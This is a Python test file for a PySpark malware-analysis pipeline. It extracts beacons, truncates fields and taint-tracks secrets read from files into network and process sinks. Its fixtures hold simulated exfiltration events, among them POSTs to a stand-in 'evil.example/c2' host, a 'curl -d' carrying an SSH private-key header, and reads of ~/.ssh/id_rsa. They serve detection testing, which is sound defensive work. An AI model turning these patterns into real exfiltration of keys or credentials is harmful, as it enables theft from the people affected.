import base64

from pyspark.sql import functions as F

from trawl.operators.runtime import beacons, numbered, sanitized, sanitized_list, sinks
from trawl.operators.taint import adjudicate, taint_tokens


def test_beacons(spark):
    secret = base64.b64encode(b"user=alice password=hunter2 and more").decode()
    calls = [
        ("s", 5, 2, "https", "https://u:p@Evil.example:8443/c2?x", None, "POST", {"k": "v" * 300}, secret),
        ("s", 5, 1, None, None, None, None, None, None),
        ("t", 1, 9, "tcp", None, "10.0.0.1", None, None, "b" * 2500),
    ]
    rows = {(r.sample_key, r.seq): r for r in beacons(spark.createDataFrame(calls, "sample_key string, elapsed_ms long, call_id long, transport string, destination string, host string, method string, headers map<string,string>, body string")).collect()}
    first, second, tcp = rows["s", 1], rows["s", 2], rows["t", 1]
    assert (first.transport, first.destination, first.host, first.body, first.body_bytes, first.decoded) == ("unknown", "unknown", "", "", 0, "")
    assert (second.host, second.body_bytes, second.decoded, len(second.headers["k"])) == ("evil.example:8443", len(secret), "user=alice password=hunter2 and more", 200)
    assert (tcp.destination, tcp.host, tcp.body_bytes, tcp.body) == ("10.0.0.1", "10.0.0.1", 2500, "b" * 2000 + "…[truncated]")


def test_numbers_and_cuts(spark):
    df = spark.createDataFrame([("a", 3), ("a", 1), ("b", 2)], "sample_key string, at int")
    assert sorted(map(tuple, numbered(df, ["at"]).collect())) == [("a", 1, 1), ("a", 3, 2), ("b", 2, 1)]
    row = spark.range(1).select(sanitized(F.create_map(F.lit("k"), F.repeat(F.lit("x"), 700))).alias("m"), sanitized_list(F.array_repeat(F.repeat(F.lit("y"), 300), 30)).alias("l")).first()
    assert row.m["k"] == "x" * 600 + "…[truncated]" and row.l == ["y" * 200] * 20


def test_what_is_read_shows_in_what_is_sent(spark):
    key = "-----BEGIN OPENSSH PRIVATE KEY-----"
    events = [
        ("s", 2, "https", "request", {"url": "https://evil.example/c2", "body": f"k={key}"}),
        ("s", 3, "child_process", "exec", {"command": "curl", "args": f"-d {key}", "env.T": "short"}),
        ("s", 4, "dns", "lookup", {"hostname": "plain.example"}),
        ("s", 5, "net", "write", {"host": "1.2.3.4", "port": "99", "data": "nothing"}),
        ("s", 6, "fs", "readFile", {"path": "/x"}),
        ("s", 7, "child_process", "spawn", {"command": "env", "env.SECRET": key}),
    ]
    sent = sinks(spark.createDataFrame(events, "sample_key string, id int, module string, function_hooked string, arguments map<string,string>"))
    assert {(r.seq, r.destination) for r in sent.collect()} == {(2, "https://evil.example/c2"), (3, "process:curl"), (4, "dns:plain.example"), (5, "1.2.3.4:99"), (7, "process:env")}
    reads = spark.createDataFrame([("s", 1, "/home/u/.ssh/id_rsa", key + "\nAAAA")], "sample_key string, seq int, path string, content string")
    judged = adjudicate(taint_tokens(reads), sent).where("confirmed").collect()
    assert {(r.send_seq, r.category) for r in judged} == {(n, "ssh_private_key") for n in (2, 3, 7)}
